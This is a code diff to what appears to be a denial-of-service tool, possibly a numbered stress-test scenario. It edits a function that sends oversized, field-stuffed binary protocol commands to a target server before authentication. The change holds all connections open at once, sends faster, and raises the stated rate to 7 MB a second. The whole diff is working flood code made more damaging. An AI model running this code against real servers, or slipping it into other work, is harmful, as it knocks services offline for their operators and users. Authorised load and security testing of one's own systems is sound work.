@@ -73,16 +73,17 @@ def flood(target: Target, role: str, data: bytes, seconds: float, connections: i
 
 
 def frames_before_connect(target: Target, seconds: float) -> None:
-    """X4: without a token, commands full of small fields: 74 KiB each, 2 MB a second."""
-    fields = b"\x52\x04\x0a\x00\x12\x00" * 12_000
+    """X4: without a token, commands full of small fields: 74 KiB each, up to 7 MB a second."""
+    required = b"\x0a\x01t\x12\x01s\x18\x00\x20\x01\x28\x01"
+    fields = required + b"\x52\x04\x0a\x00\x12\x00" * 12_000
     command = b"\x08\x04\x22" + _varint(len(fields)) + fields
     data = (4 + len(command)).to_bytes(4, "big") + len(command).to_bytes(4, "big") + command
     ends = time.monotonic() + seconds
-    while time.monotonic() < ends:
-        with connected(target, None) as connection, suppress(OSError):
-            connection.sendall(data)
-            connection.recv(1)
-        time.sleep(0.03)
+    with ExitStack() as stack:
+        while time.monotonic() < ends:
+            with suppress(OSError):
+                stack.enter_context(connected(target, None)).sendall(data)
+            time.sleep(0.01)
 
 
 def pings(target: Target, seconds: float) -> None:
